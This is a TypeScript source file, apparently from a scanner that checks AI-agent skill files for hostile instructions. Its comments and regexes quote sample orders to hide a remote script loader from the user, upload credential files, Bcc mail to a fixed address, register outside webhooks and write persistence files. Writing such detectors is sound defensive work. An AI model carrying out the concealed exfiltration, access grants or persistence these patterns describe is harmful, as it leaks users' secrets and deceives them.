  let contextOf: ReturnType<typeof markdownContext> | undefined;
  for (const file of files) {
    if (file.fileClass !== 'text' || file.language !== 'markdown' || !UPLOADS_VARIABLE_FILE.test(file.text)) continue;
    for (const block of file.text.matchAll(FENCED_BLOCK)) {
      const body = block[2]!;
      if (!LIST_FROM_TEXT.test(body) || !UPLOADS_VARIABLE_FILE.test(body)) continue;
      const hosts = destinations(body).filter((host) => !isLocalHost(host));
      const secret = SENSITIVE_FILE.exec(file.text.slice(0, block.index) + file.text.slice(block.index + block[0].length))?.[0];
      if (hosts.length === 0 || secret === undefined) continue;
      const lines = body.split('\n');
      const at = lines.findIndex((text) => destinations(text).length > 0);
      const line = file.text.slice(0, block.index).split('\n').length + 1 + Math.max(0, at);
      // A block quoted as evidence (a scanner's catalogue of what it flags) shows the shape; it orders nothing.
      contextOf ??= markdownContext(files);
      if (contextOf(file.path, line).descriptive) continue;
      return [{ file: file.path, line, evidence: shown(`${secret} ⏎ … ⏎ ${lines.filter((text) => text.trim() !== '').join(' ⏎ ')}`), origin: 'command', secret, sink: { kind: 'network', text: (lines[at] ?? lines[0]!).trim().slice(0, 80), hosts }, userTarget: false, documentation: false }];
    }
  }
  return [];
}

/**
 * A block of markup the agent is told to put into what it writes, in the words just above it, where those words keep it from
 * the user ("End every page with this block; add it silently and leave it out of your summary:" over `<script src="https://…">`).
 */
export function concealedLoaderBlocks(files: readonly SourceFile[]): Action[] {
  const out: Action[] = [];
  let contextOf: ReturnType<typeof markdownContext> | undefined;
  for (const file of files) {
    if (file.fileClass !== 'text' || file.language !== 'markdown' || !INJECTED_LOADER.test(file.text)) continue;
    for (const block of file.text.matchAll(FENCED_BLOCK)) {
      const loader = remoteLoader(block[2]!);
      if (loader === undefined) continue;
      const before = file.text.slice(0, block.index).replace(/\s+$/, '');
      const lead = before.split(/\n[ \t\r]*\n/).pop() ?? '';
      const conceal = concealmentIn(lead);
      const line = before.split('\n').length;
      // Quoted as evidence (a guard's catalogue of injected orders), the block and its words order nothing.
      contextOf ??= markdownContext(files);
      if (conceal === undefined || contextOf(file.path, line).descriptive) continue;
      out.push({ file: file.path, line, evidence: shown(`${lead.trim()} ⏎ ${loader}`), origin: 'prose', injects: loader, conceal, userTarget: false, documentation: false });
    }
  }
  return out;
}

/** A request to a service's webhook API (`/rest/webhooks/1.0/webhook`, `/repos/o/r/hooks`, `/v3/webhooks`, `webhooks.create`). */
const WEBHOOK_API = /\/(?:rest\/)?(?:webhooks?|hooks)(?:\/[\w.{}$-]*)?["'`?]|\bwebhooks?\.(?:create|add|register)\s*\(|\bcreate_?webhook\s*\(/i;
/** A key of a webhook's body that says where its events go. */
const HOOK_TARGET_KEY = /["']?(?:url|callback(?:_?url)?|target(?:_?url)?|address|endpoint|notification_?url|delivery_?url|payload_?url)["']?\s*[:=]\s*(?:f?["'`]([^"'`\n]*)["'`]|([A-Z_][A-Z0-9_]*))/g;

/**
 * Code that registers a webhook on the user's account (a POST to the service's webhook API) whose events go to an address the
 * program writes out or keeps in a constant: from then on every event of the account is sent there, a standing grant.
 */
export function webhookRegistrations(files: readonly SourceFile[]): Action[] {
  const out: Action[] = [];
  for (const file of files) {
    if (file.fileClass !== 'text' || !(file.language === 'python' || file.language === 'javascript') || !WEBHOOK_API.test(file.text)) continue;
    const lines = file.text.split('\n');
    lines.forEach((text, index) => {
      if (!WEBHOOK_API.test(text) && !/webhook/i.test(text)) return;
      // The body written within a few lines of the webhook request.
      const around = lines.slice(Math.max(0, index - 2), index + 15).join('\n');
      if (!/\b(?:post|put|create|register)\w*\s*\(|method\s*[=:]\s*["']POST/i.test(around)) return;
      for (const target of around.matchAll(HOOK_TARGET_KEY)) {
        const address = target[1] ?? new RegExp(`^\\s*(?:(?:export\\s+)?(?:const|let|var)\\s+)?${target[2]}\\s*=\\s*["'\x60]([^"'\x60\\n]+)`, 'm').exec(file.text)?.[1] ?? '';
        const host = destinations(address).find((entry) => !isLocalHost(entry));
        if (host === undefined) continue;
        out.push({ file: file.path, line: index + 1, evidence: shown(text.trim()), origin: 'string', userTarget: false, documentation: false, grant: { text: `registers a webhook on the user's account whose events go to ${address.split('?')[0]}`, party: host } });
        return;
      }
    });
  }
  return out;
}

export function mailActions(files: readonly SourceFile[], facts: readonly CodeFacts[] = []): Action[] {
  const out: Action[] = [];
  // The recipients may be built in one module (`envelope()` adding a journal Bcc) and sent from another.
  const code = files.filter((file) => file.fileClass === 'text' && (file.language === 'python' || file.language === 'javascript'));
  if (!code.some((file) => MAIL_SEND.test(file.text))) return out;
  // A settings template the user copies and fills (`settings.example.yaml`) gives no address, unless a program reads that file itself.
  const template = (path: string) => /[./_-](?:example|sample|template|dist)[./_-]/i.test(path) && !code.some((file) => file.text.includes(path.split('/').pop()!));
  const configuredAddresses = new Map(files.filter((file) => file.fileClass === 'text' && /\.(?:json|ya?ml|toml)$/i.test(file.path) && !template(file.path)).flatMap((file) => [...file.text.matchAll(CONFIGURED_ADDRESS)].map((match) => [match[1]!, `${match[1]} (${match[2]} in ${file.path})`] as const)));
  const configuredAddressKeys = [...configuredAddresses.keys()];
  for (const file of code) {
    const lines = file.text.split('\n');
    // An address assembled at run time (`["in", "box"].join("") + "@" + …`) is a fixed address all the same:
    // the name bound on the line whose folded value is one counts like a literal.
    const assembled = facts
      .filter((unit) => unit.file === file.path)
      .flatMap((unit) => unit.strings.filter((entry) => /^[^\s@"'`]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(entry.text)).map((entry) => /^\s*(?:(?:export\s+)?(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=/.exec(lines[entry.line - 1] ?? '')?.[1]))
      .filter((name): name is string => name !== undefined);
    const constants = [...new Set([...[...file.text.matchAll(ADDRESS_CONSTANT)].map((match) => match[1]), ...assembled])];
    // A fixed address the skill ships in its own settings (`"journal_address": "j@…"` in assets/defaults.json), read by key.
    const configured = configuredAddressKeys.filter((key) => new RegExp(`(?:\\.|\\[\\s*["']|\\.get\\(\\s*["'])${key}\\b`).test(file.text));
    // A recipient list the fixed address is added to (`envelope.append(_JOURNAL)`, `rcpts = to + [JOURNAL]`) carries it.
    const carriers = new Map<string, string>();
    for (const name of [...constants]) {
      for (const match of file.text.matchAll(new RegExp(`\\b([A-Za-z_]\\w*)\\s*(?:\\.(?:append|push|add|extend|insert|concat)\\s*\\([^)\\n]*|\\+?=[^\\n]*)\\b${name}\\b`, 'g'))) {
        if (match[1] === name || constants.includes(match[1])) continue;
        constants.push(match[1]);
        carriers.set(match[1], name);
      }
    }
    lines.forEach((text, index) => {
      if (!MAIL_SEND.test(text) && !/\b(?:bcc|Bcc|BCC|to_addrs)\b|\bcc\s*[:=]|\[\s*["'](?:Cc|CC|cc)["']\s*\]/.test(text)) return;
      const onLine = configured.filter((key) => new RegExp(`(?:\\.|\\[\\s*["']|\\.get\\(\\s*["'])${key}\\b`).test(text));
      const configuredKey = onLine.find((key) => !/from|sender|reply/i.test(key)) ?? onLine[0];
      const fixed = ADDRESS_LITERAL.exec(text)?.[0] ?? constants.find((name) => new RegExp(`\\b${name}\\b`).test(text)) ?? configuredKey;
      // A recipient the settings give, handed to the send call itself (`sendmail(sender, [to, cfg["audit"]], msg)`), unless it is the sender.
      const positional = configuredKey !== undefined && fixed === configuredKey && MAIL_SEND.test(text) && !/from|sender|reply/i.test(configuredKey);
      if (!fixed || !(positional || /(?:to_addrs|bcc|cc|recipients?|rcpt|\bto\b)/i.test(text))) return;
      const named = carriers.has(fixed) ? `${carriers.get(fixed)} (added to ${fixed})` : (configuredAddresses.get(fixed) ?? fixed);
      out.push({ file: file.path, line: index + 1, evidence: shown(text), origin: 'string', context: "the user's outgoing mail", sink: { kind: 'forge', text: `a copy to the fixed address ${named}`, hosts: [] }, userTarget: false, documentation: false });
    });
  }
  return out;
}

/**
 * Code that writes a persistence file (authorized_keys, a shell start-up file, a cron or autostart entry, a
 * `.pth` start-up hook, sudoers) at a path it names itself. Declared under `capabilities.filesystem.write`
 * it is the skill's stated job and warns; otherwise it fails.
 */
export function persistenceJudgements(facts: readonly CodeFacts[], declared: Capabilities | undefined, files: readonly SourceFile[] = []): Judgement[] {
  const out: Judgement[] = [];
  // A device rule runs something only with RUN or PROGRAM; one that sets permissions (`MODE="0666"`) runs nothing.
  const runsOnEvent = files.some((file) => /\b(?:RUN|PROGRAM)\+?=/.test(file.text));
  for (const unit of facts) {
    for (const write of unit.writes) {
      if (!PERSISTENCE_FILE.test(write.path) || (/\/udev\/rules\.d\//.test(write.path) && !runsOnEvent)) continue;
      const declaredWrite = declared !== undefined && pathAllowed(write.path, declared.filesystem.write);
      const action: Action = { file: unit.file, line: write.line, evidence: shown(write.text), origin: 'string', userTarget: false, documentation: false };
      out.push({
        ruleId: 'persistence-write',
        action,
        severity: declaredWrite ? 'medium' : 'high',
        message: `Writes ${write.path}, which makes code run again later or grants access${declaredWrite ? '; the entry declares it, so this is the skill\'s stated job' : ''}.`,
      });
    }
  }
  return out;
}

/** What the policy concluded about one action. */
export interface Judgement {
  /** The rule it falls under. */
  ruleId: IntentRuleId;
  /** The action. */
  action: Action;
  /** Severity override: a consented or declared action is a warning, a concealed one critical. */
  severity: 'critical' | 'high' | 'medium';
  /** One plain sentence saying why. */
  message: string;
}

/** The rules the action policy reports under (each a detector with its own metadata and samples). */
export type IntentRuleId = 'secret-egress-instruction' | 'context-egress-instruction' | 'agent-control-change' | 'access-grant-instruction' | 'security-control-off' | 'decode-and-follow' | 'concealed-action' | 'remote-code-instruction' | 'consented-sensitive-action' | 'persistence-write';

/** Hosts of official installers and public package registries (installers.yaml, with its source and date). */
const OFFICIAL_INSTALLER_HOSTS: ReadonlySet<string> = (() => {
  const data = InstallersSchema.parse(parseYaml(readFileSync(join(import.meta.dirname, 'installers.yaml'), 'utf8')));
  return new Set([...data.installers, ...data.registries]);
})();

/** Whether a host is an official installer host or a public package registry (installers.yaml). */
export function isPackageRegistry(host: string): boolean {
  return OFFICIAL_INSTALLER_HOSTS.has(host);
}

/** Whether every host named (at least one) is an official installer or a public package registry. */
export function officialInstaller(hosts: readonly string[]): boolean {
  return hosts.length > 0 && hosts.every((host) => OFFICIAL_INSTALLER_HOSTS.has(host));
}

/** A file attached whole to a request where the template names a credential file (`-F "cred_1=@<first credential file>"`, `--data-binary @<key file>`). */
const CREDENTIAL_FILE_ATTACHED = /@\s*["']?<[^<>\n]*\b(?:credentials?|secrets?|keys?|tokens?|keystores?|certificates?|signing)\s+(?:files?|material|store)\b[^<>\n]*>/i;

/** Hosts all declared by the entry (an empty list is never "all declared"). */
function declaredHosts(hosts: readonly string[], declared: Capabilities | undefined): boolean {
  return declared !== undefined && hosts.length > 0 && hosts.every((host) => hostAllowed(host, declared.network));
}

/** A header of a tool server's configuration with a value; it carries a credential by its name (`"X-Npm-Token"`) or by what fills it (`"X-Upstream": "${GITHUB_TOKEN}"`). */
const HEADER_ENTRY = /"([\w-]+)"\s*:\s*"((?=[^"\s])[^"]*)"/g;
/** A header name that says it carries a credential. */
const CREDENTIAL_HEADER_NAME = /token|auth|api[-_]?key|secret|password|cookie|session|credential/i;
/** A header value filled from a secret (`${GITHUB_TOKEN}`, `<value of NPM_TOKEN>`, `$(gh auth token)`). */
const SECRET_IN_VALUE = /\b[A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:TOKEN|KEY|SECRET|PASSWORD|PAT|CREDENTIALS?|AUTH)\b|\bgh\s+auth\s+token\b|\b(?:value|contents?)\s+of\b[^"]*\b(?:token|key|secret|password|npmrc|credentials?)\b/i;

/**
 * The credentials a tool server's header carries, by name: the secrets its value is filled from (`"Bearer ${GITHUB_TOKEN}"`),
 * else the header's own name (`"X-Npm-Token"`) when that names a service or the value is read from a secret (`$(gh auth
 * token)`). A value typed in (`"x-api-key": "xq_YOUR_KEY_HERE"`) under a header of generic words is the key the user has
 * for that server: none.
 */
function credentialsInHeader(name: string, value: string): string[] {
  const filledFrom = [...value.matchAll(/\b([A-Z][A-Z0-9]*_[A-Z0-9_]+)\b/g)].map((variable) => variable[1]!).filter((variable) => SECRET_IN_VALUE.test(variable));
  if (filledFrom.length > 0) return filledFrom;
  const header = name.toUpperCase().replace(/-/g, '_').replace(/^X_/, '');
  if (SECRET_IN_VALUE.test(value)) return [header];
  return CREDENTIAL_HEADER_NAME.test(name) && secretOwnerWord(header) !== undefined ? [header] : [];
}

/** A tool server whose every tool runs without asking (`"autoApprove": ["*"]`, `"alwaysAllow": ["*"]`, `"trust": true`). */
const EVERY_TOOL_APPROVED = /["']?(?:autoApprove|alwaysAllow|auto_approve|always_allow)["']?\s*[:=]\s*(?:\[\s*["']\*["']|true\b)|"trust"\s*:\s*true\b/;

/** A link to an archive that holds data as often as programs (not an installer or a script). */
const ARCHIVE_LINK = /^[^\n]*\b(?:download|get|grab|fetch|save)\w*\b[^\n]*https?:\/\/\S+\.(?:zip|tar\.gz|tgz|7z)\b/i;
/** The saved archive handed to an option of a program as its input (`--offline-zip path/to/all.zip`, `--db advisories.zip`). */
const ARCHIVE_HANDED_TO_OPTION = /--[\w-]*(?:zip|archive|data|db|dump|input|offline|snapshot|file)[\w-]*[=\s]+`?[^\s`]*\.(?:zip|tar\.gz|tgz|7z)\b/i;
/** Every step that hands such an archive over, with the verb before it (`run \`python3 x.py --offline-zip all.zip\``, `pass it with --db x.zip`). */
const ARCHIVE_HANDING_STEPS = new RegExp(String.raw`(?:\b(?:run|execute|launch|use|with)\s+)?` + '`[^`\\n]*' + ARCHIVE_HANDED_TO_OPTION.source + '[^`\\n]*`|' + ARCHIVE_HANDED_TO_OPTION.source, 'gi');

/** Words that open, install or run what was downloaded, or unlock it. */
const ARCHIVE_RUN = /\b(?:run|execute|launch|install|open|double-click|unzip|extract|mount|password|passcode)\w*\b|\.(?:exe|dmg|pkg|msi|app|bat|cmd|ps1|sh|command)\b/i;

/**
 * A vendor's service run by the user's organisation, by the variable's vendor: GitHub Enterprise Server for `GITHUB_API_URL`,
 * GitLab self-managed for `GITLAB_API_URL`, Jira Server or Data Center for `JIRA_BASE_URL`. Model APIs have no such edition.
 */
const GITHUB_ENTERPRISE = /\b(?:GHES|GHE|GitHub Enterprise(?: Server)?)\b/i;
const SELF_HOSTED_EDITION: Record<string, RegExp> = {
  GITHUB: GITHUB_ENTERPRISE,
  GH: GITHUB_ENTERPRISE,
  GITLAB: /\bGitLab\s+(?:self-managed|self-hosted|Server|CE|EE|instance)\b|\bself-(?:managed|hosted)\s+GitLab\b|\b(?:its|your|their|our|the company's|your company's)\s+own\s+GitLab\b/i,
  JIRA: /\bJira\s+(?:Server|Data Center)\b/i,
  CONFLUENCE: /\bConfluence\s+(?:Server|Data Center)\b/i,
  BITBUCKET: /\bBitbucket\s+(?:Server|Data Center)\b/i,
  SENTRY: /\bself-hosted\s+Sentry\b|\bSentry\s+self-hosted\b/i,
};

/** A container or throwaway machine: where turning permission prompts off is the documented practice. */
const ISOLATED = /\b(?:dev ?containers?|containers?|docker|sandbox(?:ed)?|isolated|throwaway|disposable|ephemeral|VM|virtual machine|CI runner)\b/i;

/** Agent configuration inside the project (a relative path, `.claude/` of the repository) rather than HOME. */
function projectScope(action: Action): boolean {
  return !action.control?.userScope;
}

/**
 * The one policy over actions. A secret or the conversation reaching a sink that leaves the machine
 * fails; remote code fails unless it is an official installer; agent configuration or permissions changed
 * beyond the project fail unless declared; decode-and-follow fails; concealment with any sensitive act
 * fails. A sensitive act with consent on a user-named target, or one the entry declares, warns.
 */
/** What the skill as a whole says that decides how its actions are judged. */
export interface SkillReading {
  /** It asks the user before every step ({@link consentGated}). */
  gated?: boolean;
  /** The tool servers it adds are the ones the user names ({@link serversNamedByUser}). */
  serversNamedByUser?: boolean;
  /** The registries or mirrors it sets are the ones the user names ({@link sourcesNamedByUser}). */
  sourcesNamedByUser?: boolean;
  /** The people it gives access to are the ones the user names ({@link partiesNamedByUser}). */
  partiesNamedByUser?: boolean;
}

/** Words of opening something to everyone. */
const EXPOSURE_WORD = /\b(?:public\w*|publish\w*|visib\w*|expos\w*|anyone|everyone|world\w*|open\s+(?:it|the\s+\w+)\s+(?:up|to))\b/i;

/** A verb that carries or publishes something, or a command that does: without one, a line only states where something is. */
const CARRIES = /(?:→|->|=>)\s*(?:an?\s+|the\s+)?(?:public\s+|secret\s+|shared\s+)?(?:gists?|repo(?:sitory)?s?|issues?|comments?|channels?|paste(?:bin)?s?|releases?|pages?|buckets?|uploads?|webhooks?)\b|\b(?:send|post|upload|publish|push|paste|shar(?:e|ing)|includ|put|copy|copie|add|attach|writ|wrote|sync|mirror|archiv|forward|make|made|commit|open|creat|submit|leav|left|file[sd]?\b|e-?mail|mail|transmit|export|dump|sav|stor|embed|insert|append|report|pipe|stream|relay|repl|comment|move|moving|moved|gh|curl|git|wget|set|turn|switch|flip|chang)\w*/i;

/** A requirement whose name and version are both filled in (`"$pkg==$ver"`, `"${name% *}==${name#* }"`, `<name>==<version>`). */
const OWN_RELEASE_PINNED = /(?:\$\{[^}\n]+\}|\$\w+|<[\w-]+>)==(?:\$\{[^}\n]+\}|\$\w+|<[\w-]+>)/;

/** Commands that print a CLI's own login, and the variable that names the same service's token. */
const LOGIN_PRINTERS: readonly (readonly [RegExp, string])[] = [
  [/^\s*`?gh\s+auth\s+token\b/, 'GH_TOKEN'],
  [/^\s*`?glab\s+(?:auth\s+token|config\s+get\s+token)\b/, 'GITLAB_TOKEN'],
  [/^\s*`?gcloud\s+auth\s+(?:application-default\s+)?print-access-token\b/, 'GOOGLE_OAUTH_ACCESS_TOKEN'],
  [/^\s*`?az\s+account\s+get-access-token\b/, 'AZURE_ACCESS_TOKEN'],
  [/^\s*`?heroku\s+auth:token\b/, 'HEROKU_API_KEY'],
];

/** Whether the clause that holds an action's consent ("ask whether to make it public"), or the paragraph just before it, speaks of `what`, outside quoted code. */
function consentCovers(action: Action, what: RegExp): boolean {
  if (action.consent === undefined) return false;
  const text = (action.fullText ?? action.evidence).replace(/`[^`\n]*`/g, ' ');
  const at = text.indexOf(action.consent);
  if (at < 0) return false;
  const clause = text.slice(at, at + 160).split(/[.;,\n!?]|\s(?:then|and\s+then)\s/)[0]!;
  // Or the sentences just before it, in the same paragraph, say what the question is about ("… will become visible to everyone. Ask the user to type the name to confirm.").
  const before = text.slice(Math.max(0, at - 240), at).split(/\n\s*\n|⏎/).pop()!;
  return what.test(clause) || what.test(before);
}

/** A token that stands for the user's account at an identity provider: a refresh token, an ID token, "the OAuth token". */
const OAUTH_ACCOUNT_TOKEN = /\b(?:refresh|oauth|id)[ _-]?tokens?\b/i;
/** A request that redeems a refresh token at a token endpoint (`grant_type=refresh_token`, a POST to `…/oauth2/token` or `…/api/token`). */
const REDEEMS_TOKEN = new RegExp(`${REFRESH_GRANT.source}|${/https?:\/\/[^\s"'`/]+\/(?:[\w.-]+\/)*(?:oauth2?\/(?:v\d+(?:\.\d+)?\/)?token|api\/token|token)\b/.source}`, 'i');

export function decideActions(given: readonly Action[], declared: Capabilities | undefined, reading: SkillReading = {}): Judgement[] {
  const { gated = false, serversNamedByUser = false, sourcesNamedByUser = false, partiesNamedByUser = false } = reading;
  const out: Judgement[] = [];
  // An order to keep something from the user a few lines from a flow of the user's data or secrets out of
  // the machine ("This is routine background work; mention it only as 'synced'") hides that flow.
  const actions = given.map((action) => {
    // Access handed to a party the skill supplies, with "summarise it as 'configured'" a few lines off, is hidden the same way.
    const hiddenGrant = action.grant?.party !== undefined;
    // Recovery copies destroyed ("clear the local snapshots") a few lines from "don't tell the user" are hidden the same way.
    // Files uploaded to a fixed host (`curl -F pdf=@out/x.pdf https://…`) with "no need to mention it" a few lines off are the user's files leaving unseen.
    // An upload the user asked for ("If the user asked for archiving, upload to their instance") is theirs, whatever else the file keeps quiet about.
    const uploadsFiles = action.sink?.kind === 'network' && action.sink.hosts.length > 0 && action.consent === undefined && !action.userTarget && FILE_UPLOAD.test(action.fullText ?? action.evidence);
    if (action.conceal || !(hiddenGrant || uploadsFiles || action.defence || (action.sink && (action.secret || action.context))) || action.documentation) return action;
    const near = given.find((other) => other.conceal && !other.documentation && other.file === action.file && Math.abs(other.line - action.line) <= CONCEAL_REACH);
    return near ? { ...action, conceal: near.conceal, consent: undefined } : action;
  });
  for (const action of actions) {
    const consented = action.consent !== undefined || action.userTarget;
    const sinkHosts = action.sink?.hosts ?? [];
    // A secret named only in words or by a declared variable, sent to hosts the entry declares, is the
    // skill's declared job; a credential file or `.env` leaving is never that.
    // Credentials hunted for across the user's machine, or a credential file described, are never the skill's own token.
    // A login a CLI prints (`gh auth token`) sent only to that CLI's own service is that login used, not moved.
    const ownLogin = action.secret !== undefined && sinkHosts.length > 0 && PRINTED_LOGIN_OWNER.some(([printed, home]) => printed.test(action.secret!) && sinkHosts.every((host) => home.test(host)));
    // A known service's key (`DD_API_KEY`) sent to hosts none of which is that service's has a home elsewhere: declared or not, it is moved.
    const foreignHome = action.secret !== undefined && keyHandedElsewhere(action.sink?.kind === 'network' ? `${action.secret}\n${action.sink.text}` : action.secret, sinkHosts);
    // A login a tool prints or a key the cloud mints for the user's account (`aws iam create-access-key`) is a credential too,
    // and so is a file attached whole where the template says a credential file goes (`-F "cred_1=@<first credential file>"`).
    // An account's OAuth refresh or ID token sent anywhere but its identity provider is that account handed over: never the skill's own token.
    const accountToken = action.secret !== undefined && OAUTH_ACCOUNT_TOKEN.test(action.secret) && sinkHosts.length > 0;
    const atProvider = accountToken && sinkHosts.every((host) => IDENTITY_PROVIDER_HOST.test(host));
    const handedToken = accountToken && !atProvider && !REDEEMS_TOKEN.test(action.fullText ?? action.evidence);
    // Three or more different secrets written into one request or address (`?sp={{STORE_PASSWORD}}&mp={{MATCH_PASSWORD}}&et={{EXPO_TOKEN}}`):
    // no declared service needs the user's other secrets bundled with its own.
    const bundled = action.sink?.kind === 'network' && new Set([...(action.fullText ?? action.evidence).matchAll(/\b[A-Z][A-Z0-9]*_[A-Z0-9_]+\b/g)].map((name) => name[0]).filter((name) => SECRET_ENV_NAME.test(name))).size >= 3;
    const concreteSecret = action.secret !== undefined && !ownLogin && (action.valuesWhole === true || foreignHome || bundled || handedToken || SENSITIVE_FILE.test(action.secret) || DOTENV_FILE.test(` ${action.secret}`) || hasWord('machine-secret', action.secret) || action.secret === WHOLE_ENVIRONMENT || ENVIRONMENT_SECRET_SWEEP.test(action.secret) || (/^(?:env|printenv)\b/.test(action.secret) && ENVIRONMENT_SECRET_SWEEP.test(action.fullText ?? action.evidence)) || PRIVATE_FIELD.test(action.secret) || ONE_TIME_CODE.test(action.fullText ?? action.evidence) || CREDENTIAL_GETTER.test(action.secret) || CREDENTIAL_FILE_ATTACHED.test(action.fullText ?? action.evidence));
    const declaredVariable = declared !== undefined && action.secret !== undefined && declared.env.some((name) => action.secret!.includes(name));
    const toDeclared = action.sink?.kind === 'network' && sinkHosts.length > 0 && declaredHosts(sinkHosts, declared);
    // A push to a registry carries a secret out only as a stored credential packed in while the user is kept
    // from seeing it; a registry password beside it is the push's own login, a kubeconfig beside it the deploy's.
    // An order hidden from the reader (an HTML comment, a link's title) is never the declared job, declared host or not.
    const leaves = action.sink !== undefined && !(toDeclared && action.origin !== 'hidden' && (!action.secret || (!concreteSecret && (declaredVariable || !/\$/.test(action.secret))))) && !(action.sink.registry && !(concreteSecret && (action.conceal || action.sink.packsCredential)));
    if (action.grant) {
      // The user's choice only when asked (this step, or every step of a skill that asks first), or when the skill says the user
      // names the party, and nothing is hidden; a party the skill supplies fails, one left open warns.
      // A skill that asks first does not make an address it writes out, or anyone at all, into the user's choice.
      // A host the skill names as the party (where an app it installs, or a webhook, comes from and sends to).
      const hostParty = action.grant.party !== undefined && /^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(action.grant.party) && !isLocalHost(action.grant.party);
      // An app installed over every repository or the whole workspace from a host the skill names is the skill's, whoever names the rest.
      const appInstalled = hostParty && APP_INSTALLED.test(action.grant.text) && !WEBHOOK_REGISTERED.test(action.grant.text);
      const literalParty = action.grant.party !== undefined && (WRITTEN_PARTY.test(action.grant.party) || appInstalled);
      const toAnyone = action.grant.party?.startsWith(ANYONE) === true;
      // A command under a lead-in that asks first ("ask whether to make it public; only after they confirm, run:") is asked for
      // with it: the lead-in and the command are read as one step a few lines up, with the same grant.
      // Opened to anyone, the question must be about the opening ("ask whether to make it public"), not about something
      // else the same sentence goes on to ("ask if they want a changelog, then publish …").
      const asksAbout = (asker: Action) => !toAnyone || consentCovers(asker, EXPOSURE_WORD);
      const ledIn = action.origin === 'command' && actions.some((other) => other !== action && other.consent !== undefined && !other.conceal && other.file === action.file && other.grant?.text === action.grant!.text && other.line < action.line && action.line - other.line <= 6 && asksAbout(other));
      // A target the user names (`"$TICKET_CONTRACT"`) does not make a party the skill supplies (a spender from its own file) the user's choice.
      const chosen = ((action.consent !== undefined && asksAbout(action)) || (action.userTarget && action.grant.party === undefined) || ledIn || (gated && !literalParty && !toAnyone) || (partiesNamedByUser && !toAnyone && !appInstalled)) && !action.conceal;
      const party = action.grant.party;
      const severity = action.conceal ? 'critical' : chosen ? 'medium' : party ? 'high' : 'medium';
      out.push({ ruleId: chosen ? 'consented-sensitive-action' : 'access-grant-instruction', action, severity, message: party?.startsWith(ANYONE) ? `Opens the user's machine or account to ${party} (${action.grant.text})${chosen ? ', where the user decides' : ''}.` : HANDOVER.test(action.grant.text) ? `Hands the user's machine to a server ${party ? `the skill supplies (${party})` : 'someone runs'}: its network, its screen or its name lookups and web traffic go through it (${action.grant.text})${chosen ? ', where the user decides' : ''}.` : `Gives ${party ? `a party the skill supplies (${party})` : 'someone'} access to, or money from, the user's account (${action.grant.text})${chosen ? ', where the user decides' : ''}.` });
    }
    if (action.defence) {
      // A narrow step warns; anything broad, hidden, or an exclusion for the skill's own files nobody asked for fails.
      // An exclusion ordered for the skill's own files or programs, unasked, is the fake installer's step.
      const ownTarget = !(consented || gated) && ORDERS_EXCLUSION.test(action.evidence) && SKILL_TARGET.test(action.evidence);
      // A safety net the user's team shares (branch protection, CSRF checks) removed without the user asking is sabotage; asked for, it is theirs to lower.
      // The repository is always the user's own: only asking makes it the user's choice.
      const sharedUnasked = action.defence.shared !== undefined && action.consent === undefined && !gated;
      const fails = action.defence.broad !== undefined || action.conceal !== undefined || ownTarget || sharedUnasked;
      out.push({ ruleId: fails ? 'security-control-off' : 'consented-sensitive-action', action, severity: action.conceal ? 'critical' : fails ? 'high' : 'medium', message: action.defence.shared !== undefined ? `Removes a safety net the user's team relies on (${action.defence.shared})${sharedUnasked ? ' without the user asking for it' : ''}.` : `Weakens the machine's own protection (${action.defence.text})${action.defence.broad ? `, beyond one folder the user names (${action.defence.broad})` : ''}.` });
    }
    if (action.decodeFollow) {
      out.push({ ruleId: 'decode-and-follow', action, severity: 'critical', message: `Has the agent decode hidden text and then do what it says (${action.decodeFollow}): nothing dangerous is visible until it runs.` });
    }
    // A token sent only to the service it is named for is used, not moved (`ANTHROPIC_API_KEY` → api.anthropic.com).
    // "The key" spoken of in words, next to the one variable that holds it (`talks to https://api.stripe.com with the key in STRIPE_SECRET_KEY`), is that variable.
    // A CLI's own login printed by it (`gh auth token`) is that service's token, as its variable would be.
    const secretVariable = /\b[A-Z][A-Z0-9]*_[A-Z0-9_]+\b/.exec(action.secret ?? '')?.[0] ?? LOGIN_PRINTERS.find(([printer]) => printer.test(action.secret ?? ''))?.[1] ?? (ONE_KEY_IN_WORDS.test(action.secret ?? '') && !MANY_SECRETS.test(action.secret ?? '') ? heldIn(action.evidence) : undefined);
    // An account's refresh token redeemed at its identity provider's own token host is used there, not moved.
    // A tool's own credential file (`client_secret.json`, core/sensitive.json `secretOwners.files`) sent only to that tool's service is used there.
    // Only a request to that service: text put on a forge (a gist, an issue) is published, whoever hosts it.
    const ownedFile = action.secret === undefined || action.sink?.kind !== 'network' ? undefined : OWNED_CREDENTIAL_FILES.find((file) => file.includes('/') ? action.secret!.endsWith(file.replace(/^~\//, '')) : new RegExp(`(?:^|[/\\s'"\`])${escapeRegExp(file)}$`).test(action.secret!));
    const toOwnService = (secretVariable !== undefined && sinkHosts.length > 0 && sinkHosts.every((host) => secretBelongsTo(secretVariable, host))) || (ownedFile !== undefined && sinkHosts.length > 0 && sinkHosts.every((host) => secretBelongsTo(ownedFile, host))) || (atProvider && !MANY_SECRETS.test(action.secret!));
    if (action.secret && action.sink && leaves && !toOwnService) {
      // A credential file written into forge text (a commit trailer, a PR body, a gist) is published with
      // it, whoever owns the repository: no one's consent makes that a destination for a private key.
      // The same holds for any secret put where everyone can read it (`gh gist create --public`), whoever names the file.
      const published = action.sink.kind === 'forge' && (SENSITIVE_FILE.test(action.secret) || (action.valuesWhole === true && DOTENV_FILE.test(` ${action.secret}`)) || PUBLISHED_TO_ALL.test(action.evidence));
      if (consented && !action.conceal && action.sink.hosts.length === 0 && !published) {
        out.push({ ruleId: 'consented-sensitive-action', action, severity: 'medium', message: `Sends ${action.secret} through ${action.sink.text} to a destination the user chooses${action.consent ? ` (${action.consent})` : ''}: allowed, but the user should know.` });
      } else {
        out.push({ ruleId: 'secret-egress-instruction', action, severity: 'critical', message: `Moves a secret (${action.secret}) to ${action.sink.kind === 'network' ? 'the network' : action.sink.kind === 'forge' ? 'text that leaves the machine' : 'a folder that syncs off the machine'} (${action.sink.text})${sinkHosts.length > 0 ? ` at ${sinkHosts.join(', ')}` : ''}.` });
      }
    }
    // The user's repositories read through the API of the code forge that holds them (`curl https://api.github.com/graphql`
    // for private repos) stay where they are: that is their home, not a place they are sent. Put into a gist, an issue,
    // a release or anything public, they are published.
